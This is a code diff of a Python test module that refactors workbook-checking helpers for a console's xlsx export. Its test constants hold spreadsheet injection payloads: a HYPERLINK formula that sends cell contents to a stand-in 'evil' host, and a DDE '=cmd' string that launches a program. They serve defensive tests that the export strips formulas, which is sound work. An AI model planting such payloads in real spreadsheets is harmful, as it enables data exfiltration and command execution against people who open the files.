@@ -4,8 +4,6 @@ bureau's district-wide view."""
 
 from __future__ import annotations
 
-import io
-import zipfile
 from collections.abc import Sequence
 from typing import Any
 
@@ -13,7 +11,6 @@ import pytest
 import sqlalchemy as sa
 from litestar.testing import AsyncTestClient
 from markupsafe import escape
-from openpyxl import load_workbook
 from sqlalchemy.ext.asyncio import AsyncEngine
 
 from sync.clock import ManualClock
@@ -21,33 +18,21 @@ from sync.db.tables import communities, records
 from sync.xlsx import cell_text
 from tests.console.conftest import console_login
 from tests.console.scenario import synced_day
-from tests.hostile_text import CONTROLS, FORMULAS, HOSTILE, MARKUP, store_hostile_text
+from tests.hostile_text import (
+    CONTROLS,
+    FORMULAS,
+    HOSTILE,
+    MARKUP,
+    cells,
+    opened,
+    store_hostile_text,
+)
 
 TITLE = '=HYPERLINK("http://evil/?x="&A1,"点我")'
 # "/", "?", ":" and "[" are refused in a sheet's name: the record book's sheet is named
 # after its community.
 PLACE = "=cmd|' /C calc'!A0 [甲]:乙?"
 PLACE_SHEET = "=cmd|' _C calc'!A0 _甲__乙_"
-
-
-def opened(response: Any) -> dict[str, list[tuple[Any, ...]]]:
-    """The workbook's sheets as rows of values, after checking that it opens and holds no
-    formula at all."""
-    assert response.status_code == 200, response.text[:300]
-    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
-        for name in archive.namelist():
-            if name.startswith("xl/worksheets/"):
-                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
-    book = load_workbook(io.BytesIO(response.content))
-    sheets = {}
-    for sheet in book.worksheets:
-        sheets[sheet.title] = [tuple(c.value for c in r) for r in sheet.iter_rows()]
-        assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
-    return sheets
-
-
-def cells(sheets: dict[str, list[tuple[Any, ...]]]) -> set[Any]:
-    return {v for rows in sheets.values() for r in rows for v in r}
 
 
 async def hostile_day(demo_client: AsyncTestClient[Any], clock: ManualClock,
